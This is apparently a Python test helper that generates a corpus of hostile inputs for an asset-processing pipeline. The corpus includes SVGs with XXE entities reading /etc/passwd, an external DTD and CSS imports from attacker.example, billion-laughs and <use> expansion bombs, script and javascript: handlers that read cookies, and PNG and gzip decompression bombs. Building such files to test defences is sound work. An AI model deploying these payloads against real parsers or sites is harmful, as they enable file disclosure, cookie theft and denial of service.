"""Write the hostile-input corpus: SVGs, rasters and files that attack asset handling.

Run `python tests/hostile/make_corpus.py OUT_DIR` to write it; tests call `make_corpus(tmp_path)`.
Generated rather than committed so every byte is explained here.
"""

from __future__ import annotations

import base64
import gzip
import struct
import sys
import zlib
from pathlib import Path

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares width x height but whose data is a few bytes (a bomb)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def tiny_png(size: int = 2, noise: bool = False) -> bytes:
    """A valid size x size PNG: red, or seeded noise (which compresses badly, for truncation)."""
    from io import BytesIO

    import numpy as np
    from PIL import Image

    pixels = np.random.default_rng(6).integers(0, 256, (size, size, 3), np.uint8) if noise else None
    image = Image.fromarray(pixels) if noise else Image.new("RGB", (size, size), (255, 0, 0))
    out = BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def billion_laughs() -> str:
    """The classic entity expansion: 10 levels of 10 references, 10^9 'lol's."""
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)
    ]
    return f"<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n{chr(10).join(ents)}\n]>\n{SVG_OPEN}<text>&lol9;</text></svg>"


def use_bomb(levels: int = 10, fanout: int = 10) -> str:
    """Each group draws the previous one `fanout` times: fanout**levels elements once expanded."""
    groups = ['<g id="l0"><rect width="1" height="1"/></g>']
    for i in range(1, levels):
        uses = "".join(f'<use xlink:href="#l{i - 1}"/>' for _ in range(fanout))
        groups.append(f'<g id="l{i}">{uses}</g>')
    return f'{SVG_OPEN}<defs>{"".join(groups)}</defs><use xlink:href="#l{levels - 1}"/></svg>'


def corpus() -> dict[str, bytes]:
    """Every hostile file, by name."""
    files = {
        "xxe_file.svg": (
            '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            f"{SVG_OPEN}<text>&xxe;</text></svg>"
        ),
        "xxe_parameter.svg": (
            '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n'
            f"{SVG_OPEN}</svg>"
        ),
        "billion_laughs.svg": billion_laughs(),
        "href_http.svg": f'{SVG_OPEN}<image xlink:href="http://attacker.example/track.png" width="8" height="8"/></svg>',
        "href_file.svg": f'{SVG_OPEN}<image href="file:///etc/passwd" width="8" height="8"/></svg>',
        "href_escape.svg": f'{SVG_OPEN}<image href="../../secret.png" width="8" height="8"/></svg>',
        "href_absolute.svg": f'{SVG_OPEN}<image href="/etc/hostname" width="8" height="8"/></svg>',
        "use_external.svg": f'{SVG_OPEN}<use href="http://attacker.example/sprite.svg#icon"/></svg>',
        "script.svg": (
            f'{SVG_OPEN[:-1]} onload="alert(1)"><script>alert(document.cookie)</script>'
            '<rect width="64" height="64" fill="#0B5FFF" onclick="steal()"/>'
            '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'
            '<a xlink:href="javascript:alert(2)"><circle cx="32" cy="32" r="8" fill="#FFB000"/></a>'
            '<set attributeName="href" to="javascript:alert(3)"/>'
            '<style>@import url(http://attacker.example/x.css); rect { fill: url(http://attacker.example/p) }</style>'
            "</svg>"
        ),
        "use_recursive.svg": f'{SVG_OPEN}<g id="a"><rect width="1" height="1"/><use xlink:href="#a"/></g></svg>',
        "use_mutual.svg": f'{SVG_OPEN}<defs><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></defs><use href="#a"/></svg>',
        "use_bomb.svg": use_bomb(),
        "deep.svg": SVG_OPEN + "<g>" * 5000 + "</g>" * 5000 + "</svg>",
        "many_elements.svg": SVG_OPEN + '<rect width="1" height="1"/>' * 60_000 + "</svg>",
        "gzip_bomb.svgz": gzip.compress(b"<svg xmlns='http://www.w3.org/2000/svg'>" + b" " * 20_000_000 + b"</svg>", 9),
        "not_svg.svg": "<html><body>not an svg</body></html>",
        "not_xml.svg": "<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>",
        "huge.png": png_declaring(100_000, 100_000),
        "over_limit.png": png_declaring(12_000, 9_000),
        "truncated.png": tiny_png(64, noise=True)[:2000],
        "not_an_image.png": b"this is a text file pretending to be a PNG\n",
        "image.gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00;",
        "tiny.png": tiny_png(),
    }
    files["embedded_bomb.svg"] = (
        f'{SVG_OPEN}<image width="8" height="8" href="data:image/png;base64,'
        f'{base64.b64encode(png_declaring(100_000, 100_000)).decode()}"/></svg>'
    )
    files["embedded_svg.svg"] = (
        f'{SVG_OPEN}<image width="8" height="8" href="data:image/svg+xml;base64,'
        f'{base64.b64encode(use_bomb().encode()).decode()}"/></svg>'
    )
    files["local_image.svg"] = f'{SVG_OPEN}<image width="8" height="8" href="tiny.png"/></svg>'
    return {name: data.encode() if isinstance(data, str) else data for name, data in files.items()}


def make_corpus(dest: Path) -> dict[str, Path]:
    """Write the corpus into `dest` and return name -> path."""
    dest.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, data in corpus().items():
        paths[name] = dest / name
        paths[name].write_bytes(data)
    return paths


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, path in make_corpus(out).items():
        print(f"{path.stat().st_size:>10,}  {path}")
